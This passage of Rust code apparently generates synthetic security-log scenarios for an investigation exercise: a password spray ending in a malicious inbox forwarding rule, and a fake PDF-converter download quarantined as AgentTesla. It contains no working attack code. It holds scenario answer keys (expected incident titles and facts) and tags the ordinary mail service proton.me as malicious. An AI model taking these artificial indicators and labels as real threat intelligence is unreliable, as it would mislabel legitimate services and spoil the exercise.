        ),
        stage(
            "Mailbox accessed from the attacker's address",
            success_at + 9 * MIN,
            "Collection",
            &["T1114.002"],
            None,
            victim_account,
        ),
        stage(
            "Inbox rule forwarding all mail to an external address",
            t_rule,
            "Collection",
            &["T1114.003"],
            None,
            victim_account,
        ),
        stage(
            "Attacker registered a new MFA method",
            t_rule + 8 * MIN,
            "Persistence",
            &["T1098.005"],
            None,
            victim_account,
        ),
    ];
    let mut facts = BTreeMap::new();
    facts.insert(
        "sprayed_accounts".into(),
        serde_json::json!(targets.iter().map(|u| u.account.upn.clone()).collect::<Vec<_>>()),
    );
    facts.insert("victim_upn".into(), serde_json::json!(victim.account.upn));
    facts.insert("attacker_ip".into(), serde_json::json!(attacker_ip));
    facts.insert("forwarding_address".into(), serde_json::json!(forward_to));
    facts.insert("inbox_rule_name".into(), serde_json::json!("."));
    facts.insert("user_agent".into(), serde_json::json!(agent));
    let scenario = Scenario {
        id: "password-spray".into(),
        name: "Password spray with a successful sign-in and a malicious inbox forwarding rule"
            .into(),
        severity: "High".into(),
        start: format_datetime_ns(t1),
        end: format_datetime_ns(t_rule + 8 * MIN),
        patient_zero_device: None,
        patient_zero_user: Some(victim.account.name.clone()),
        compromised_devices: vec![],
        compromised_users: vec![victim.account.name.clone()],
        malicious_domains: vec!["proton.me".into()],
        malicious_urls: vec![],
        malicious_ips: ips.iter().map(|s| (*s).to_string()).collect(),
        file_hashes: vec![],
        stages,
        expected_incident_title:
            "Password spray followed by a successful sign-in and a malicious inbox rule".into(),
        facts,
    };
    Ok((scenario, rows))
}

fn commodity_malware(
    em: &mut Emitter<'_>,
    t: &Tenant,
    rng: &mut Rng,
    end: i64,
    days: u32,
) -> Result<(Scenario, u64), Error> {
    let mut rows = 0;
    let back = (i64::from(days) - 2).clamp(1, 4);
    let t2 = start_of_day(end - back * DAY) + 14 * HOUR + rng.range(0, 120) * MIN;
    let sales: Vec<(usize, &User)> =
        users_in(t, "Sales").into_iter().filter(|(i, _)| t.workstation_of(*i).is_some()).collect();
    let (ui, user) = sales
        .get(rng.below(sales.len()))
        .copied()
        .or_else(|| t.users.iter().enumerate().find(|(i, _)| t.workstation_of(*i).is_some()))
        .ok_or(Error::Scenario("no user with a workstation"))?;
    let dev = t.workstation_of(ui).ok_or(Error::Scenario("no workstation"))?;
    let domain = "free-pdf-convert.xyz";
    let url = format!("https://{domain}/download/PDFConverterSetup.exe");
    let ip = "104.21.64.155";
    let sha = hex(hash_str(&url) ^ 0xbad, 64);
    let edge = Tool::new(
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    );
    let ed = edge.run("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://www.bing.com/search?q=free+pdf+converter", 6120, t2 - 10 * MIN, &user.account, "Medium", "explorer.exe", 4012);
    em.network(t2 - 5_000_000_000, dev, &ed, "ConnectionSuccess", 50888, ip, 443, domain)?;
    let path = format!("C:\\Users\\{}\\Downloads\\PDFConverterSetup.exe", user.account.name);
    em.file(t2, dev, &ed, "FileCreated", "PDFConverterSetup.exe", &path, &sha, 1_284_096, &url)?;
    let defender = Tool::new(
        "MsMpEng.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
    );
    let md = defender.run(
        "\"MsMpEng.exe\"",
        3100,
        t2 - 5 * DAY,
        &t.system,
        "System",
        "services.exe",
        640,
    );
    let threat = "Trojan:Win32/AgentTesla!ml";
    let fields = format!(
        "{{\"ThreatName\":\"{threat}\",\"WasRemediated\":true,\"WasExecutingWhileDetected\":false,\"Action\":\"quarantine\"}}"
    );
    em.device_event(
        t2 + 3_000_000_000,
        dev,
        &md,
        "AntivirusDetection",
        &DeviceEventFields {
            file_name: "PDFConverterSetup.exe",
            folder_path: &path,
            sha256: &sha,
            additional_fields: &fields,
            file_origin_url: &url,
            ..Default::default()
        },
    )?;
    rows += 3;
    let alert_id = format!("da{}", hex(hash_str(&sha), 32));
    let evidence = [
        EvidenceFields {
            entity_type: "Machine",
            role: "Impacted",
            device_name: &dev.name,
            device_id: &dev.id,
            ..Default::default()
        },
        EvidenceFields {
            entity_type: "User",
            role: "Impacted",
            account_name: &user.account.name,
            account_upn: &user.account.upn,
            ..Default::default()
        },
        EvidenceFields {
            entity_type: "File",
            role: "Impacted",
            file_name: "PDFConverterSetup.exe",
            folder_path: &path,
            sha256: &sha,
            threat_family: "AgentTesla",
            ..Default::default()
        },
        EvidenceFields {
            entity_type: "Url",
            role: "Related",
            remote_url: &url,
            ..Default::default()
        },
    ];
    em.product_alert(
        t2 + 4_000_000_000,
        &ProductAlert {
            alert_id: &alert_id,
            title: "'AgentTesla' malware was prevented",
            category: "Malware",
            severity: "Low",
            service_source: "Microsoft Defender for Endpoint",
            detection_source: "Antivirus",
            techniques: "",
            evidence: &evidence,
        },
    )?;
    rows += 1 + evidence.len() as u64;
    let stages = vec![
        stage(
            "User downloaded a fake PDF converter",
            t2,
            "InitialAccess",
            &["T1189", "T1204.002"],
            Some(dev),
            Some(&user.account),
        ),
        stage(
            "Defender Antivirus quarantined the file before it ran",
            t2 + 3_000_000_000,
            "DefenseEvasion",
            &[],
            Some(dev),
            Some(&user.account),
        ),
    ];
    let mut facts = BTreeMap::new();
    facts.insert("threat_name".into(), serde_json::json!(threat));
    facts.insert("file_path".into(), serde_json::json!(path));
    facts.insert("remediated".into(), serde_json::json!(true));
    facts.insert("product_alert_id".into(), serde_json::json!(alert_id));
    let scenario = Scenario {
        id: "commodity-malware".into(),
        name: "Commodity malware download blocked and quarantined".into(),
        severity: "Low".into(),
        start: format_datetime_ns(t2 - 5_000_000_000),
        end: format_datetime_ns(t2 + 4_000_000_000),
        patient_zero_device: Some(dev.name.clone()),
        patient_zero_user: Some(user.account.name.clone()),
        compromised_devices: vec![],
        compromised_users: vec![],
        malicious_domains: vec![domain.into()],
        malicious_urls: vec![url],
        malicious_ips: vec![ip.into()],
        file_hashes: vec![sha],
        stages,
        expected_incident_title: "'AgentTesla' malware was prevented on one endpoint".into(),
        facts,
    };
    Ok((scenario, rows))
}
